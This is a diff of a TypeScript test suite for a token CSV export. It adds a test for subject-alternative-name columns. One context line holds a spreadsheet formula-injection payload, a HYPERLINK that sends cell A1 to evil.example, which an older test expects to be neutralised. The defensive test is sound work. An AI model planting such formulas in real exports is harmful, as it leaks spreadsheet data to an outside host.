@@ -50,6 +50,15 @@ describe("exporting tokens as CSV", () => {
     expect((parse(text) as string[][])[1]![1]).toBe(`x;'=HYPERLINK("http://evil.example/?"&A1,"click")`);
   });
 
+  it("ends each row with the token's SANs in the batch CSV's columns, space-separated", async () => {
+    const own = (await makeFrontdoor()).id;
+    const operator = (await makeUser("operator", [own])).principal;
+    await createTokenBatch(operator, own, { json: { tokens: [{ name: "named", subjectAltNames: { dns: ["a.example.com", "b.example.com"], email: ["ci@example.com"] } }, { name: "plain" }] } });
+    const [header, ...rows] = parse(await new Response(await tokensCsvStream(operator, own, { sort: "name,asc" })).text()) as string[][];
+    expect(header!.slice(-4)).toEqual(["dnsNames", "ipAddresses", "uris", "emails"]);
+    expect(rows.map((r) => r.slice(-4))).toEqual([["a.example.com b.example.com", "", "", "ci@example.com"], ["", "", "", ""]]);
+  });
+
   it("refuses a caller without access before streaming anything", async () => {
     const outsider = (await makeUser("operator", [])).principal;
     await expect(tokensCsvStream(outsider, frontdoorId)).rejects.toMatchObject({ code: "frontdoor_not_found" });
